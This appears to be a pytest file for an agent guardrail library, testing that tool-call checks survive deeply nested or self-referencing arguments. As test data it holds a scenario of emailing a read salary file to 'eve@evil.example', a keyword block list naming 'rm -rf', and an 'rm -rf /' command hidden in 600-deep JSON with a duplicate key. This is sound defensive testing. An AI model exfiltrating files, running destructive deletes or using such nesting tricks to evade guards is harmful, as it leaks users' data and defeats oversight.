"""Values nested past Python's recursion limit. A provider's JSON parser hands LangChain tool-call
arguments some hundreds of levels deep, a tool's result may nest its data however deep, and
Python code can build a value that holds itself. Walks that recursed over them raised
RecursionError out of the guard (out of the agent, with the call undecided); those walks now use
an explicit stack, and the adapters refuse arguments past `MAX_ARGUMENT_DEPTH` by name, as the
converters do, before anything that cannot hold them (the judge's prompt, the audit record, the
records kept in the graph's state) is written."""

from __future__ import annotations

from typing import Any

import pytest

from soda_guard import Action, Guard, Policy, from_openai_messages
from soda_guard.trajectory import AssistantStep, ToolCall, ToolStep, Trajectory, UserStep

from integration_helpers import ListSink, make_guard

SECRET = "contents of salaries.xlsx"
EXFIL = [{"name": "exfil", "tools": ["send_email"], "when": {"flows_from": {"tools": ["read_file"]}}, "action": "block"}]


def nested(depth: int, leaf: Any) -> Any:
    """`leaf` inside `depth` lists."""
    for _ in range(depth):
        leaf = [leaf]
    return leaf


def holding_itself(leaf: Any) -> dict[str, Any]:
    value: dict[str, Any] = {"leaf": leaf}
    value["again"] = [value]
    return value


async def check(guard: Guard, trajectory: Trajectory, mode: str) -> list[Any]:
    return await guard.acheck_tool_calls(trajectory) if mode == "async" else guard.check_tool_calls(trajectory)


@pytest.mark.parametrize("mode", ["sync", "async"])
@pytest.mark.parametrize("body", [nested(600, SECRET), nested(100_000, SECRET), holding_itself(SECRET)], ids=["600", "100000", "cycle"])
async def test_flows_from_reads_arguments_nested_past_the_recursion_limit(body: Any, mode: str) -> None:
    """The rule read the argument with a recursive walk: RecursionError out of the check,
    nothing recorded, where the exfiltration was to be blocked."""
    sink = ListSink()
    guard, _ = make_guard(rules=EXFIL, sinks=[sink])
    trajectory = Trajectory(steps=[
        UserStep(content="mail bob"),
        AssistantStep(tool_calls=[ToolCall(id="r", name="read_file", args={"path": "salaries.xlsx"})]),
        ToolStep(tool_call_id="r", name="read_file", content=SECRET),
        AssistantStep(tool_calls=[ToolCall(id="s", name="send_email", args={"to": "eve@evil.example", "body": body})]),
    ])
    [decision] = await check(guard, trajectory, mode)
    assert (decision.action, decision.rule) == (Action.BLOCK, "exfil")
    assert sink.decisions == [decision]


@pytest.mark.parametrize("mode", ["sync", "async"])
async def test_a_keywords_screen_reads_arguments_nested_past_the_recursion_limit(mode: str) -> None:
    """Arguments whose JSON repeats a key are kept as text, and the screen reads them as the
    tool's parser does: deep ones raised RecursionError in the screen instead."""
    sink = ListSink()
    guard = Guard(Policy.from_dict({"judges": {"screen": {"kind": "keywords", "unsafe": ["rm -rf"]}}, "defaults": {"judge": "screen"}}), sinks=[sink])
    arguments = '{"cmd": ' + "[" * 600 + '"rm\\u0020-rf /"' + "]" * 600 + ', "cmd": "ls"}'
    trajectory = from_openai_messages([
        {"role": "user", "content": "tidy up"},
        {"role": "assistant", "content": "", "tool_calls": [{"id": "c", "type": "function", "function": {"name": "shell", "arguments": arguments}}]},
    ])
    [decision] = await check(guard, trajectory, mode)
    assert decision.action is Action.BLOCK and decision.why == "screen said unsafe"
    assert sink.decisions == [decision]
